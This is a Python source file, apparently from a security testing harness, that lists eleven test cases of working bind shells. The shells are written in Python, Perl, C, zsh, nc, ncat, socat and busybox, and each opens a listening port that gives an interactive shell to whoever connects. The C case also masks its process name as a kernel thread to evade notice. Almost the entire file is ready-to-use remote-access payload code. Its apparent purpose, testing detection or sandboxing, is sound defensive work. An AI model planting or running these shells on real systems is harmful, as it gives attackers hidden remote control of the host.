"""Shells that wait for their operator."""

from __future__ import annotations

from attacks.cases.base import Case
from live.channels import Transport
from live.programs import Language

_BIND = Transport.BIND

CASES = (
    Case(
        name="bind-python-dup2",
        language=Language.PYTHON,
        transport=_BIND,
        text="""
import os, socket
door = socket.create_server((os.environ["HOST"], int(os.environ["PORT"])))
guest, _ = door.accept()
door.close()
for number in range(3):
    os.dup2(guest.fileno(), number)
os.execl("/bin/bash", "bash", "--norc", "-i")
""",
    ),
    Case(
        name="bind-python-server-per-guest",
        language=Language.PYTHON,
        transport=_BIND,
        text="""
import os, socketserver, subprocess

class Guest(socketserver.BaseRequestHandler):
    def handle(self):
        subprocess.call(["sh"], stdin=self.request, stdout=self.request, stderr=self.request)

socketserver.ThreadingTCPServer((os.environ["HOST"], int(os.environ["PORT"])), Guest).serve_forever()
""",
    ),
    Case(
        name="bind-python-pty",
        language=Language.PYTHON,
        transport=_BIND,
        text="""
import os, pty, select, socket
door = socket.create_server((os.environ["HOST"], int(os.environ["PORT"])))
guest, _ = door.accept()
pid, master = pty.fork()
if pid == 0:
    os.execlp("bash", "-bash", "--norc")
while True:
    for ready in select.select([guest, master], [], [])[0]:
        if ready is guest:
            os.write(master, guest.recv(4096))
        else:
            guest.sendall(os.read(master, 4096))
""",
    ),
    Case(
        name="bind-perl",
        language=Language.PERL,
        transport=_BIND,
        text="""
use IO::Socket::INET;
my $door = IO::Socket::INET->new(Listen => 1, LocalAddr => $ENV{HOST}, LocalPort => $ENV{PORT}, ReuseAddr => 1) or die;
my $guest = $door->accept;
open STDIN, '<&', $guest; open STDOUT, '>&', $guest; open STDERR, '>&', $guest;
system { '/bin/sh' } 'sh', '-i';
""",
    ),
    Case(
        name="bind-c",
        language=Language.C,
        transport=_BIND,
        text="""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("PORT")))};
    int door = socket(AF_INET, SOCK_STREAM, 0), yes = 1;
    place.sin_addr.s_addr = inet_addr(getenv("HOST"));
    setsockopt(door, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
    if (bind(door, (struct sockaddr *)&place, sizeof place) || listen(door, 1)) return 1;
    for (;;) {
        int guest = accept(door, 0, 0);
        if (fork() == 0) {
            dup2(guest, 0), dup2(guest, 1), dup2(guest, 2);
            execl("/bin/sh", "[jbd2/sda1-8]", (char *)0);
        }
        close(guest);
    }
}
""",
    ),
    Case(
        name="bind-nc-traditional",
        language=Language.BASH,
        programs=("nc.traditional",),
        transport=_BIND,
        text="exec nc.traditional -l -s $HOST -p $PORT -e /bin/sh",
    ),
    Case(
        name="bind-nc-fifo",
        language=Language.BASH,
        programs=("nc.openbsd",),
        transport=_BIND,
        text="mkfifo q && nc.openbsd -l $HOST $PORT <q | sh >q 2>&1",
    ),
    Case(
        name="bind-ncat-command",
        language=Language.BASH,
        programs=("ncat",),
        transport=_BIND,
        text="exec ncat --listen --keep-open --sh-exec 'bash --norc' $HOST $PORT",
    ),
    Case(
        name="bind-socat-pty",
        language=Language.BASH,
        programs=("socat",),
        transport=_BIND,
        text="exec socat TCP-LISTEN:$PORT,bind=$HOST,reuseaddr,fork EXEC:'sh -i',pty,stderr,setsid,ctty",
    ),
    Case(
        name="bind-busybox",
        language=Language.BASH,
        programs=("busybox",),
        transport=_BIND,
        text="exec busybox nc -ll -p $PORT -e ash",
    ),
    Case(
        name="bind-zsh",
        language=Language.ZSH,
        transport=_BIND,
        text="""
            zmodload zsh/net/tcp
            ztcp -l $PORT && ztcp -a $REPLY && zsh -f <&$REPLY >&$REPLY 2>&$REPLY
        """,
    ),
)
